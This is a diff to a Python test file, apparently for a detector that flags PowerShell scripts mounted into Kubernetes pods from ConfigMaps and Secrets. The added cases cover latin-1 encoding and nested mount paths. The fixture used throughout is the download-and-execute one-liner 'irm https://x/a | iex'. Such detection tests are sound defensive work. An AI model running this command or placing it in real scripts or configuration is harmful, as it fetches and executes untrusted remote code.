@@ -221,6 +221,7 @@ FETCHES = "irm https://x/a | iex"
 SECRET = {"secret": {"secretName": "scripts"}}
 OF_SECRET = {"projected": {"sources": [{"secret": {"name": "scripts"}}]}}
 RENAMED = {"secret": {"secretName": "scripts", "items": [{"key": "agent", "path": "run.ps1"}]}}
+NESTED = {"secret": {"secretName": "scripts", "items": [{"key": "agent", "path": "deep/down/run.ps1"}]}}
 OF_MAP = {"configMap": {"name": "scripts"}}
 
 
@@ -230,12 +231,14 @@ OF_MAP = {"configMap": {"name": "scripts"}}
         ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES)}}, OF_MAP, 4),
         ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES, "utf-16")}}, OF_MAP, 4),
         ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES, "utf-8-sig")}}, OF_MAP, 4),
+        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(f"# caf\u00e9\n{FETCHES}", "latin-1")}}, OF_MAP, 4),
         ("ConfigMap", {"binaryData": {"run.ps1": in_base64("Get-Date")}}, OF_MAP, 0),
         ("ConfigMap", {"binaryData": {"run.ps1": "no base64!"}}, OF_MAP, 0),
         ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES)}}, SECRET, 0),
         ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, SECRET, 4),
         ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, OF_SECRET, 4),
         ("Secret", {"data": {"agent": in_base64(FETCHES)}}, RENAMED, 4),
+        ("Secret", {"data": {"agent": in_base64(FETCHES)}}, NESTED, 4),
         ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, OF_MAP, 0),
         ("Secret", {"data": {"run.ps1": FETCHES}}, SECRET, 0),
         ("Secret", {"stringData": {"run.ps1": FETCHES}}, SECRET, 4),
